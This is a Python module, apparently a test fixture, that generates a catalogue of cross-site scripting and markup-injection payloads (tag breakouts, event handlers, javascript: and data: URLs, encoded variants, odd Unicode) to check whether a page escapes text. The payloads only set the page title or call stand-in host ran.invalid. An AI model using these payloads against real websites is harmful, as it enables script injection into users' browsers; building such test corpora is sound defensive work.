"""Texts that would run, load or become markup in a page that does not escape them: ways out × what comes after."""

RAN = "ran"  # what a payload that runs makes of the page's title; what it asks for has the host ran.invalid

_RUN = f"document.title='{RAN}'"
# Out of an element's text, of an attribute, of a script or its JSON, of a comment, of a style.
_WAYS_OUT = (
    "",
    '">',
    "'>",
    "</p></div></li></ol>",
    "</script>",
    '"}]}</SCRIPT\t>',
    "--></noscript>",
    "]]></style></title></textarea>",
    "\u2028\u2029",
)
_BEHIND = (
    f"<script>{_RUN}</script>",
    "<script src=//ran.invalid/a.js></script>",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f'<img src=x onerror="{_RUN}">',
    "<img src=http://ran.invalid/a.png>",
    f"<svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script><animate onbegin={_RUN} attributeName=x></svg>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{_RUN.replace(chr(39), "`")}"></iframe>',
    "<object data='data:text/html,<script>top.document.title=`ran`</script>'></object>",
    "<style>@import url(http://ran.invalid/a.css); body{background:url(http://ran.invalid/b.png)}</style>",
    "<link rel=stylesheet href=http://ran.invalid/c.css>",
    "<base href=http://ran.invalid/><meta http-equiv=refresh content='0;url=http://ran.invalid/d'>",
    f"<form><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<template><slot></template><marquee onstart={_RUN}>",
    "<audio autoplay src=http://ran.invalid/e.mp3>",
    "<!--<script>",
)
_ATTRIBUTES = (
    f'" onmouseover="{_RUN}',
    f"' autofocus onfocus={_RUN} x='",
    f"` onclick={_RUN} `",
    '" style="background:url(http://ran.invalid/f.png)',
    f"x onload={_RUN}",
)
_IN_SCRIPTS = (
    f'";{_RUN};//',
    f"';{_RUN};//",
    f'\\";{_RUN};//',
    f"${{{_RUN}}}",
    f"`${{{_RUN}}}`",
    f'{{{{constructor.constructor("{_RUN}")()}}}}',
    f"\u2028{_RUN}\u2028",
    f"\u2029{_RUN}//",
    f"*/{_RUN}/*",
    f'"}},"tokens":["{RAN}"],"x":{{"',
    '{"__proto__":{"tokens":[]}}',
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e",
    "\\",
    "\\u2028",
    "\\ud800",
    "\\ud83d\\ude00",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    "data:text/html,<script>top.document.title='ran'</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "http://ran.invalid/g",
    "//ran.invalid/h",
    "vbscript:msgbox(1)",
    "url(http://ran.invalid/i.png)",
    "expression(alert(1))",
)
_ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "&lt",
    "&amp;lt;",
    "&quot;&apos;&#39;",
    "&#0;&#xD800;&#x110000;",
    "&nbsp;&zwnj;&NotEqualTilde;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_FRAGMENTS = (
    *(
        "<",
        ">",
        "<<",
        "</",
        "<!",
        "<?php echo 1 ?>",
        "<%= 1 %>",
        "<![CDATA[<script>]]>",
        "<!DOCTYPE html>",
        "-->",
        "--!>",
    ),
    *("</html>", "</body></html>", "</bdi></li>", "<bdi>", "</option></select>", "<plaintext>", "<xmp>", "<listing>"),
    *('"', "'", "`", "''''", '""""', "=", "a=b c=d", "[SEP]", "[CLS]</script>", "##</script>", "##<b>"),
)
_CHARACTERS = (
    "\x00",
    "\x00<script>明月</script>",
    "\ufeff<script>明月</script>",
    "\u202e<b>月明\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200b\u200d\u2060",
    "\u061c\u200e\u200f",
    "\x1b[31m<b>红",
    "\x08\x0b\x0c\x7f",
    "\x85\xa0\u3000",
    "＜script＞alert(1)＜/script＞",
    "\ufffe\uffff\U0010ffff",
    "\ue000\U000f0000",
    "e\u0301\u0300\u0302" * 20,
    "\U000e0041\U000e0042",
    "😀👩‍👩‍👧<b>",
    "<b>" * 200,
    "明月几时有" * 100 + "<i>",
)
PAYLOADS = list(
    dict.fromkeys(
        [
            *(out + what for out in _WAYS_OUT for what in _BEHIND),
            *_ATTRIBUTES,
            *_IN_SCRIPTS,
            *_ADDRESSES,
            *_ENTITIES,
            *_FRAGMENTS,
            *_CHARACTERS,
        ]
    )
)
